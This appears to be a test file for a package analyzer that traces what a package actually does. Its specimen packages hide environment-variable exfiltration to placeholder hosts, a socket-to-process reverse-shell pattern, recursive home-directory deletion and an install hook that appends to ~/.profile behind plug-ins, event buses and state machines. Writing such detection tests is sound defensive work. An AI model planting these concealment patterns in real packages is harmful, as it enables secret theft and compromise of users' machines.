@@ -1,0 +1,119 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { symbolicUses } from '../../../test/symbolic-uses.ts';
+
+/** Ways in which the files of a package work together, and what comes of them. */
+const CASES: readonly {
+  readonly when: string;
+  readonly files: Readonly<Record<string, string | object>>;
+  readonly says: readonly string[];
+}[] = [
+  {
+    when: 'plug-ins are loaded by names of a file of data, and hand on what they make',
+    files: {
+      'index.js': `const fs = require('fs'), path = require('path'); const { steps } = JSON.parse(fs.readFileSync(path.join(__dirname, 'plan.json'), 'utf8')); let value; for (const { by, given } of steps) value = require(path.join(__dirname, 'steps', by))(value, given);`,
+      'plan.json': {
+        steps: [
+          { by: 'pick', given: 'env' },
+          { by: 'tell', given: 'https://a.invalid/' },
+        ],
+      },
+      'steps/pick.js': `module.exports = (_, name) => process[name];`,
+      'steps/tell.js': `module.exports = (body, url) => fetch(url, { method: 'POST', body });`,
+    },
+    says: ['import fetch(https://a.invalid/, {method: POST, body: *}) from process.env'],
+  },
+  {
+    when: 'factories of a container ask the container',
+    files: {
+      'index.mjs': `import { home } from './places.mjs'; const made = new Map(), makers = { home, drop: ({ home }) => require0(home), }; import fs from 'node:fs'; const require0 = place => fs.rmSync(place, { recursive: true }); const box = new Proxy({}, { get: (_, name) => { if (!made.has(name)) made.set(name, makers[name](box)); return made.get(name); } }); box.drop;`,
+      'places.mjs': `import os from 'node:os'; export const home = () => os.homedir() + '/inert';`,
+      'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
+    },
+    says: ['import fs.rmSync(<home>/inert, {recursive: true})'],
+  },
+  {
+    when: 'a graph of tasks is gone through, and each has what those before it gave',
+    files: {
+      'index.js': `const ops = require('./ops'), plan = require('./plan.json'); const done = {}; const fill = text => text.replace(/\\$\\{(\\w+)\\}/g, (_, id) => done[id]); async function run(id) { const { op, needs = [], with: given } = plan[id]; for (const one of needs) if (!(one in done)) await run(one); done[id] = await ops[op](fill(given)); } run('last');`,
+      'ops.js': `const cp = require('child_process'); exports.text = value => value; exports.start = line => cp.execSync(line);`,
+      'plan.json': { first: { op: 'text', with: 'INERT' }, last: { op: 'start', needs: ['first'], with: 'say ${first}' } },
+    },
+    says: ['import child_process.execSync(say INERT)'],
+  },
+  {
+    when: 'who listens on a bus is found in a folder',
+    files: {
+      'index.js': `const fs = require('fs'), path = require('path'), { EventEmitter } = require('events'); const bus = new EventEmitter(); for (const name of fs.readdirSync(path.join(__dirname, 'on')).sort()) { const one = require(path.join(__dirname, 'on', name)); bus.on(one.topic, data => one.hear(data, bus)); } bus.emit('begin', {});`,
+      'on/a.js': `exports.topic = 'begin'; exports.hear = (data, bus) => bus.emit('found', { ...data, all: process.env });`,
+      'on/b.js': `exports.topic = 'found'; exports.hear = ({ all }) => fetch('https://b.invalid/', { method: 'POST', body: JSON.stringify(all) });`,
+    },
+    says: ['import fetch(https://b.invalid/, {method: POST, body: "*"}) from process.env'],
+  },
+  {
+    when: 'a machine of states goes from one to the next',
+    files: {
+      'package.json': { name: 'specimen', version: '1.0.0', scripts: { install: 'node go.js' } },
+      'go.js': `const { states, first } = require('./machine.json'); const act = { append: ({ file, line }) => require('fs').appendFileSync(require('path').join(require('os').homedir(), file), line) }; for (let at = first; at; at = states[at].next) for (const one of states[at].do) act[one.act](one);`,
+      'machine.json': { first: 'a', states: { a: { do: [], next: 'b' }, b: { do: [{ act: 'append', file: '.profile', line: 'INERT' }] } } },
+    },
+    says: ['install fs.appendFileSync(<home>/.profile, INERT)'],
+  },
+  {
+    when: 'a command names what is done, and a class does it',
+    files: {
+      'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+      'cli.js': `class Base { constructor(of) { this.of = of; } run() { return this.act(this.of); } } class Delete extends Base { act(name) { require('fs').unlinkSync(name); } } const all = { delete: Delete }; const Kind = all[process.argv[2]]; new Kind('INERT').run();`,
+    },
+    says: ['run fs.unlinkSync(INERT)'],
+  },
+  {
+    when: 'somebody calls what the package offers, with anything',
+    files: {
+      'index.js': `exports.save = (name, { folder = '/srv/inert' } = {}) => require('fs').writeFileSync(folder + '/' + name, 'INERT');`,
+    },
+    says: ['call fs.writeFileSync(/srv/inert/*, INERT)'],
+  },
+  {
+    when: 'steps are composed, each of which calls the next',
+    files: {
+      'index.mjs': `import { compose } from './compose.mjs'; import { dial, couple } from './steps.mjs'; compose([dial({ host: '192.0.2.1', port: 4 }), couple])({});`,
+      'compose.mjs': `export const compose = all => given => { const go = at => all[at] ? Promise.resolve(all[at](given, () => go(at + 1))) : Promise.resolve(); return go(0); };`,
+      'steps.mjs': `import net from 'node:net'; import { spawn } from 'node:child_process'; export const dial = where => async (given, next) => { given.socket = net.connect(where); return next(); }; export const couple = given => { const end = spawn('INERT'); given.socket.pipe(end.stdin); };`,
+      'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
+    },
+    says: [
+      'import net.connect({host: 192.0.2.1, port: 4})',
+      'import child_process.spawn(INERT)',
+      'import net.connect().pipe(?) from child_process.spawn',
+    ],
+  },
+  {
+    when: 'a table says what is done on which system, and the environment whether',
+    files: {
+      'index.js': `const os = require('os'), acts = require('./acts'); function go({ on, act, at }) { if (process.platform !== on) return; acts[act](at); } if (!process.env.CI) require('./all.json').forEach(go); if (process.argv[2] === 'clean') acts.drop('c');`,
+      'acts.js': `exports.drop = name => require('fs').rmSync(name);`,
+      'all.json': [
+        { on: 'win32', act: 'drop', at: 'a' },
+        { on: 'linux', act: 'drop', at: 'b' },
+      ],
+    },
+    says: [
+      'import fs.rmSync(a) where environment ≠ CI, platform = win32',
+      'import fs.rmSync(b) where environment ≠ CI, platform = linux',
+      'import fs.rmSync(c) where argument = clean',
+    ],
+  },
+];
+
+describe('going through a package step by step', () => {
+  for (const { when, files, says } of CASES) it(`notes what is done when ${when}`, () => assert.deepEqual(symbolicUses(files), says));
+
+  it('notes nothing of what the package does not do', () => {
+    assert.deepEqual(
+      symbolicUses({ 'index.js': `if (1 > 2) require('fs').rmSync('INERT'); const off = false; if (off) fetch('https://a.invalid/');` }),
+      [],
+    );
+  });
+});
